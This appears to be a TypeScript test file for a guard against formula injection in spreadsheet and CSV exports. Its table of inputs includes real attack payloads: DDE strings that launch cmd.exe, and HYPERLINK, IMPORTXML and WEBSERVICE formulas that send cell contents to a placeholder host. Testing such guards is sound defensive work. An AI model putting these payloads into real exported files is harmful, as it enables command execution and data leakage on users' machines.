import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { guardFormula, unguardFormula } from './formula-guard.ts';

const leads = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'"];

/** What has been tried on spreadsheets and on readers of CSV: each begins with one of the leads. */
const dangerous = [
	// every lead alone, and before harmless text
	...leads,
	...leads.map((lead) => `${lead}abc`),
	// formulas
	'=1+1',
	'=SUM(A1:A9)',
	'=A1',
	'==1',
	'=-1',
	'= 1+1',
	'=1+1 ',
	'+1+1',
	'-1+1',
	'-2+3+cmd|"/C calc"!A0',
	'@SUM(1+1)*cmd|"/C calc"!A0',
	'+cmd|"/C calc"!A0',
	'=cmd|"/C calc"!A0',
	'=DDE("cmd";"/C calc";"x")',
	'=MSEXCEL|"\\..\\..\\Windows\\System32\\cmd.exe /c calc"!""',
	'=HYPERLINK("http://example.org?x="&A1,"Error: click")',
	'=IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
	'=IMPORTDATA("http://example.org")',
	'=IMAGE("http://example.org/x.png")',
	'=WEBSERVICE("http://example.org/"&A1)',
	'=IFERROR(1/0,A1)',
	'@A1',
	'@import',
	// what looks like a number, in a column of text
	'+49 30 1234',
	'-5',
	'-5.5',
	'+0',
	'-',
	'--',
	'- first of a list',
	'=',
	// after white space that spreadsheets skip
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\r\n=1+1',
	'\t\t+1',
	'\n\n@A1',
	// a formula in more than one line
	'=1+1\nsecond line',
	'=1\r\n+1',
	'-1\r2',
	'@A1\n@A2',
	'+1\n',
	// full-width forms, which some keyboards and spreadsheets make plain
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'＝cmd|"/C calc"!A0',
	'＝\n1',
	// the apostrophe of the guard itself
	"'",
	"''",
	"'=1+1",
	"''=1+1",
	"'quoted' and more",
	"'s-Gravenhage",
	"'\n=1",
	// closing a cell early
	'=","=1+1',
	'="""',
	'@"\r\n=1+1'
];

/** Texts that look near, and that begin like no formula. */
const harmless = [
	'',
	' ',
	'Law',
	'Section 4 = equality',
	'a=1+1',
	'5 - 3',
	'1+1',
	'§ 12',
	'Straße',
	' =1+1',
	'"=1+1"',
	'"',
	'first line\n=1+1',
	'first line\r\n@A1',
	'first line\t=1',
	'a\r-1',
	'x＝1',
	'“=1+1”',
	'`=1`',
	'’tis',
	'‘=1’',
	'–1',
	'—',
	'−1',
	'*',
	'#REF!',
	'%0A=1',
	'|cmd',
	'(=1)',
	'\u00a0=1',
	'法律'
];

describe('the guard', () => {
	test.each(dangerous)('puts one apostrophe before %j', (text) => {
		expect(guardFormula(text)).toBe(`'${text}`);
	});
	test.each(harmless)('leaves %j alone', (text) => {
		expect(guardFormula(text)).toBe(text);
	});
	test('nothing that it gives begins like a formula', () => {
		const anyText = fc.string({ unit: fc.oneof(fc.constantFrom(...leads), fc.string()) });
		fc.assert(
			fc.property(anyText, (text) => {
				expect(guardFormula(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
			}),
			{ seed: 2018, numRuns: 1000 }
		);
	});
});

describe('taking the guard off', () => {
	test.each([...dangerous, ...harmless])('gives %j back as it was', (text) => {
		expect(unguardFormula(guardFormula(text))).toBe(text);
	});
	test('gives any text back as it was', () => {
		const unit = fc.oneof(
			fc.constantFrom(...leads, '"', ',', ';', ' '),
			fc.string({ unit: 'binary', minLength: 1, maxLength: 3 })
		);
		fc.assert(
			fc.property(fc.string({ unit }), (text) => {
				expect(unguardFormula(guardFormula(text))).toBe(text);
			}),
			{ seed: 1951, numRuns: 2000 }
		);
	});
	test.each([
		["''", "'"],
		["'=1+1", '=1+1'],
		["''=1+1", "'=1+1"],
		["'Hello", 'Hello'],
		['=1+1', '=1+1'],
		['Hello', 'Hello'],
		['', '']
	])('takes exactly one apostrophe, and only from the beginning: %j → %j', (guarded, text) => {
		expect(unguardFormula(guarded)).toBe(text);
	});
});

test('the table of payloads is long enough to mean something', () => {
	expect(new Set(dangerous).size).toBeGreaterThanOrEqual(60);
});
